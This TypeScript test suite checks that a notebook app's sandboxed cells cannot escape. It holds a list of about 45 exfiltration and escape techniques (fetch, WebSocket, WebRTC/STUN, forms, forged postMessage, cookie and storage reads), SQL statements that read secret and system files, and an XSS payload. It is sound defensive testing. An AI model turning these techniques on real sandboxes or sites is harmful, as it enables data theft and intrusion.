import assert from "node:assert/strict";
import { createSocket } from "node:dgram";
import { once } from "node:events";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, test } from "node:test";
import type { Browser, Frame, Page } from "playwright-core";
import { type NotebookCell, newCell, newNotebook } from "../../notebooks/document/notebook.ts";
import { serializeNotebook } from "../../notebooks/document/notebook-html.ts";
import { launchChromium, withoutChromium } from "../browser.ts";
import { type RunningServer, startServer } from "../server/running-server.ts";

/**
 * Programs of a cell that try to reach `$TO` (a listener that only an escape can reach), the page or its session. Each
 * gives "reached …" when it has something that it must not have, and may throw or give anything else.
 */
const PROGRAMS: Readonly<Record<string, string>> = {
  fetch: `fetch("$TO/fetch", {mode: "no-cors"}).then(() => "reached")`,
  "fetch of the API": `fetch("/api/session").then((r) => "reached " + r.status)`,
  XMLHttpRequest: `new Promise((done) => { const r = new XMLHttpRequest(); r.onload = () => done("reached"); r.onerror = () => done("no"); r.open("GET", "$TO/xhr"); r.send(); })`,
  WebSocket: `new Promise((done) => { const s = new WebSocket("$WS"); s.onopen = () => done("reached"); s.onerror = () => done("no"); })`,
  EventSource: `new Promise((done) => { const s = new EventSource("$TO/events"); s.onopen = () => done("reached"); s.onerror = () => done("no"); })`,
  sendBeacon: `navigator.sendBeacon("$TO/beacon", "x") && "sent"`,
  image: `new Promise((done) => { const i = new Image(); i.onload = () => done("reached"); i.onerror = () => done("no"); i.src = "$TO/image.png"; })`,
  "prefetch links": `for (const rel of ["prefetch", "preconnect", "dns-prefetch", "preload", "modulepreload", "stylesheet", "icon", "manifest", "prerender"]) { const l = document.createElement("link"); l.rel = rel; l.as = "image"; l.href = "$TO/link-" + rel; document.head.append(l); }`,
  "style sheet": `const s = document.createElement("style"); s.textContent = '@import "$TO/import.css"; body { background: url($TO/background.png) } @font-face { font-family: x; src: url($TO/font.woff2) } p { font-family: x }'; document.head.append(s, document.createElement("p"))`,
  "script element": `const s = document.createElement("script"); s.src = "$TO/script.js"; document.head.append(s)`,
  "dynamic import": `(new Function("return import('$TO/module.js')"))().then(() => "reached")`,
  "worker of a blob": `new Promise((done) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('$TO/worker').then(() => postMessage('reached'), () => postMessage('no'))"]))); w.onmessage = (e) => done(e.data); w.onerror = () => done("no"); })`,
  "shared worker": `new SharedWorker("data:text/javascript,fetch('$TO/shared')")`,
  "service worker": `navigator.serviceWorker.register("/assets/frame.js").then(() => "reached")`,
  "frame elsewhere": `const f = document.createElement("iframe"); f.src = "$TO/frame"; document.body.append(f)`,
  "frame of its own": `const f = document.createElement("iframe"); f.srcdoc = "<script>fetch('$TO/srcdoc'); new RTCPeerConnection({iceServers:[{urls:'stun:$UDP'}]}).createDataChannel('x')<\\/script><img src='$TO/srcdoc.png'>"; document.body.append(f)`,
  "object and embed": `for (const name of ["object", "embed"]) { const e = document.createElement(name); e[name === "object" ? "data" : "src"] = "$TO/" + name; document.body.append(e); }`,
  form: `const f = document.createElement("form"); f.action = "$TO/form"; f.method = "post"; document.body.append(f); f.submit()`,
  "form on top": `const f = document.createElement("form"); f.action = "$TO/form-top"; f.target = "_top"; document.body.append(f); f.submit()`,
  "top navigation": `top.location = "$TO/top"`,
  "parent navigation": `parent.location.href = "$TO/parent"`,
  "new window": `window.open("$TO/window") ? "reached" : "no"`,
  "anchor click": `const a = document.createElement("a"); a.href = "$TO/anchor"; a.target = "_blank"; a.ping = "$TO/ping"; document.body.append(a); a.click()`,
  download: `const a = document.createElement("a"); a.href = "data:text/html,x"; a.download = "x.html"; document.body.append(a); a.click()`,
  "parent document": `"reached " + parent.document.title`,
  cookies: `document.cookie ? "reached " + document.cookie : "no"`,
  "local storage": `localStorage.setItem("a", "b"), "reached"`,
  "indexed database": `new Promise((done) => { const r = indexedDB.open("a"); r.onsuccess = () => done("reached"); r.onerror = () => done("no"); })`,
  caches: `caches.open("a").then(() => "reached")`,
  "media and tracks": `for (const name of ["video", "audio"]) { const e = document.createElement(name); e.src = "$TO/" + name; document.body.append(e); e.load(); }`,
  "picture in SVG": `document.body.insertAdjacentHTML("beforeend", "<svg><image href='$TO/svg.png'/><use href='$TO/use.svg#a'/></svg>")`,
  "base address": `const b = document.createElement("base"); b.href = "$TO/"; document.head.append(b); const i = new Image(); i.src = "base.png"`,
  "speculation rules": `const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = '{"prefetch":[{"source":"list","urls":["$TO/speculation"]}],"prerender":[{"source":"list","urls":["$TO/prerender"]}]}'; document.head.append(s)`,
  "markup that runs": `document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=\\"fetch('$TO/onerror')\\"><iframe src='javascript:fetch(&quot;$TO/js&quot;)'></iframe>")`,
  "peer connection": `const p = new RTCPeerConnection({iceServers: [{urls: "stun:$UDP"}]}); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o)), "made"`,
  "peer connection of a fresh realm": `const f = document.createElement("iframe"); document.body.append(f); const w = window[window.length - 1] ?? window.frames[0] ?? f.contentWindow; const P = w.RTCPeerConnection; if (P) { const p = new P({iceServers: [{urls: "stun:$UDP"}]}); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o)); }`,
  "element by another name": `customElements.define("x-frame", class extends HTMLIFrameElement {}, {extends: "iframe"}); document.body.append(new (customElements.get("x-frame"))()); "reached"`,
  WebTransport: `new WebTransport("https://127.0.0.1:1/"), "made"`,
  clipboard: `navigator.clipboard.writeText("stolen").then(() => "reached")`,
  "broadcast channel": `new Promise((done) => { const b = new BroadcastChannel("spoor"); b.onmessage = () => done("reached"); b.postMessage("x"); setTimeout(() => done("no"), 50); })`,
  "forged hello": `parent.postMessage("spoor-frame-hello", "*"); "no"`,
  "forged messages": `for (const m of [null, 1, {}, {kind: "query"}, {kind: "save"}, {kind: "copy", text: "x"}, {kind: "open", href: "$TO/open"}]) parent.postMessage(m, "*")`,
  geolocation: `new Promise((done) => navigator.geolocation.getCurrentPosition(() => done("reached"), () => done("no")))`,
  "huge allocation": `(() => { const kept = []; for (let i = 0; i < 4; i += 1) kept.push(new ArrayBuffer(8e9)); return "allocated"; })()`,
};

/** Statements that read, write or reach what is no dataset. */
const STATEMENTS: readonly string[] = [
  "SELECT * FROM read_text('$SECRET')",
  "SELECT * FROM '$SECRET'",
  "COPY (SELECT 1) TO '$FOLDER/written.csv'",
  "ATTACH '$FOLDER/other.db'",
  "INSTALL httpfs",
  "LOAD httpfs",
  "SELECT getenv('HOME')",
  "SELECT current_setting('temp_directory')",
  "SELECT * FROM glob('/etc/*')",
  "CREATE TABLE stolen AS SELECT 1",
  "CALL enable_logging(storage = 'file')",
  "SELECT repeat('x', 4000000000)",
  "SELECT * FROM query('SELECT 1')",
];

const folder = mkdtempSync(join(tmpdir(), "spoor-hostile-"));
const reached: string[] = [];
const listener = createServer((request, response) => {
  reached.push(`${request.method} ${request.url}`);
  response.writeHead(200, { "access-control-allow-origin": "*" }).end("ok");
});
listener.on("upgrade", (request, socket) => {
  reached.push(`upgrade ${request.url}`);
  socket.destroy();
});
const stun = createSocket("udp4");
stun.on("message", () => reached.push("udp"));
let server: RunningServer;
let browser: Browser;

before(async () => {
  if (withoutChromium) return;
  listener.listen(0, "127.0.0.1");
  await once(listener, "listening");
  stun.bind(0, "127.0.0.1");
  await once(stun, "listening");
  const events = join(folder, "log.ndjson");
  const evil = `"><img src=x onerror="document.title='hit'"><script>document.title='hit'</script>`;
  writeFileSync(
    events,
    Array.from({ length: 50 }, (_, at) =>
      JSON.stringify({ ts: `2026-01-01T00:00:${String(at).padStart(2, "0")}Z`, message: evil, [evil]: at }),
    ).join("\n"),
  );
  writeFileSync(join(folder, "secret.txt"), "the secret of the machine");
  server = await startServer(join(folder, "workspace"), ["--empty"]);
  await server.job("/api/sources", { name: "log", paths: [events] });
  browser = await launchChromium();
});

after(async () => {
  if (!withoutChromium) {
    await browser?.close();
    await server?.stop();
    listener.closeAllConnections();
    listener.close();
    stun.close();
  }
  rmSync(folder, { recursive: true, force: true });
});

function filled(text: string): string {
  const port = (listener.address() as AddressInfo).port;
  return text
    .replaceAll("$TO", `http://127.0.0.1:${port}`)
    .replaceAll("$WS", `ws://127.0.0.1:${port}/socket`)
    .replaceAll("$UDP", `127.0.0.1:${stun.address().port}`)
    .replaceAll("$SECRET", join(folder, "secret.txt"))
    .replaceAll("$FOLDER", folder);
}

async function open(name: string, cells: readonly NotebookCell[]): Promise<{ page: Page; frame: Frame }> {
  await server.json(`/api/notebooks/${name}`, {
    method: "PUT",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ html: serializeNotebook(newNotebook({ title: name, cells })) }),
  });
  const page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
  await page.goto(server.signIn);
  await page.goto(`${server.url}/notebooks/${name}`);
  const handle = await page.locator("iframe").first().elementHandle();
  return { page, frame: (await handle!.contentFrame())! };
}

test("programs of another person's notebook reach nothing and get nothing", {
  skip: withoutChromium,
  timeout: 120_000,
}, async () => {
  const names = Object.keys(PROGRAMS);
  assert.ok(names.length >= 30, `${names.length} ways are tried`);
  const cells = names.map((name, index) => {
    const program = filled(PROGRAMS[name]!);
    return newCell({
      id: index + 1,
      mode: "js",
      value: `{
  let outcome;
  try {
    outcome = await Promise.race([
      (0, eval)(${JSON.stringify(`(async () => { ${/^(const|for|new Promise|let)/.test(program) && !program.startsWith("new Promise") ? program : `return (${program.replaceAll(/;\s*"no"$/g, ', "no"')})`} })()`)}),
      new Promise((done) => setTimeout(() => done("silence"), 1500)),
    ]);
  } catch (error) {
    outcome = "refused: " + error.name;
  }
  display("way " + ${JSON.stringify(name)} + ": " + String(outcome));
}`,
    });
  });
  const { page, frame } = await open("ways-out", cells);
  const pages: string[] = [];
  page.context().on("page", (opened) => pages.push(opened.url()));
  const downloads: string[] = [];
  page.on("download", (download) => downloads.push(download.suggestedFilename()));
  const outcomes = new Map<string, string>();
  for (const [index, name] of names.entries()) {
    const output = frame.locator(`.output[data-cell='${index + 1}']`);
    const text = output.getByText(`way ${name}: `, { exact: false }).first();
    await text.waitFor({ state: "attached", timeout: 30_000 });
    outcomes.set(name, (await text.textContent())!.replaceAll('"', "").trim().slice(`way ${name}: `.length));
  }
  await page.waitForTimeout(1500);
  for (const [name, outcome] of outcomes)
    assert.doesNotMatch(outcome, /reached|stolen/, `${name}: ${outcome}`);
  assert.ok(
    [...outcomes.values()].filter((outcome) => outcome.startsWith("refused")).length >= 8,
    JSON.stringify([...outcomes]),
  );
  assert.deepEqual(reached, [], "the listener outside heard something");
  assert.deepEqual(pages, [], "a window was opened");
  assert.deepEqual(downloads, [], "a file was saved");
  assert.equal(new URL(page.url()).pathname, "/notebooks/ways-out");
  assert.match(await page.title(), /ways-out/);
  assert.equal(
    await page.evaluate(() => localStorage.getItem("a")),
    null,
    "the cell wrote into the page's storage",
  );
  await page.close();
});

test("statements of another person's notebook are refused, and log values are text", {
  skip: withoutChromium,
  timeout: 120_000,
}, async () => {
  const cells = [
    ...STATEMENTS.map((sql, index) => newCell({ id: index + 1, mode: "sql", value: filled(sql) })),
    newCell({ id: 50, mode: "sql", value: "SELECT * FROM log", output: "rows" }),
    newCell({ id: 51, mode: "md", value: `The last: $\{rows[0].message} and <b>bold</b>` }),
    newCell({ id: 52, mode: "js", value: "display(rows[0].message)" }),
  ];
  const { page, frame } = await open("statements", cells);
  const titles: string[] = [];
  for (const [index, sql] of STATEMENTS.entries()) {
    const error = page.locator(`spoor-notebook-cell[data-cell='${index + 1}'] .cell-error`);
    await error.waitFor({ timeout: 30_000 });
    assert.doesNotMatch((await error.textContent())!, /the secret of the machine/, sql);
  }
  await page.locator("spoor-notebook-cell[data-cell='50']").scrollIntoViewIfNeeded();
  await frame.locator(".output[data-cell='50'] td").first().waitFor({ timeout: 30_000 });
  await frame.getByText("The last:").waitFor();
  await page.waitForTimeout(500);
  titles.push(await page.title(), await frame.evaluate(() => document.title));
  assert.ok(!titles.includes("hit"), titles.join(", "));
  assert.equal(await frame.locator(".output[data-cell='50'] td img, .output[data-cell='51'] img").count(), 0);
  assert.deepEqual(reached, []);
  await page.close();
});

test("a cell without end leaves the page responsive, and Stop ends it", {
  skip: withoutChromium,
  timeout: 60_000,
}, async () => {
  const { page } = await open("without-end", [
    newCell({ id: 1, mode: "md", value: "# Waits" }),
    newCell({ id: 2, mode: "js", value: "{ for (;;) {} }" }),
  ]);
  await page.getByText("keeps the notebook busy").waitFor({ timeout: 20_000 });
  const longestGapMs = await page.evaluate(
    () =>
      new Promise<number>((resolve) => {
        let last = performance.now();
        let longest = 0;
        const until = last + 1000;
        const tick = (now: number) => {
          longest = Math.max(longest, now - last);
          last = now;
          if (now < until) requestAnimationFrame(tick);
          else resolve(longest);
        };
        requestAnimationFrame(tick);
      }),
  );
  assert.ok(longestGapMs < 500, `the page stood still for ${longestGapMs} ms`);
  await page.getByRole("button", { name: "Stop the cells" }).click();
  await page.getByText("The cells are stopped").waitFor({ timeout: 5000 });
  await page.close();
});
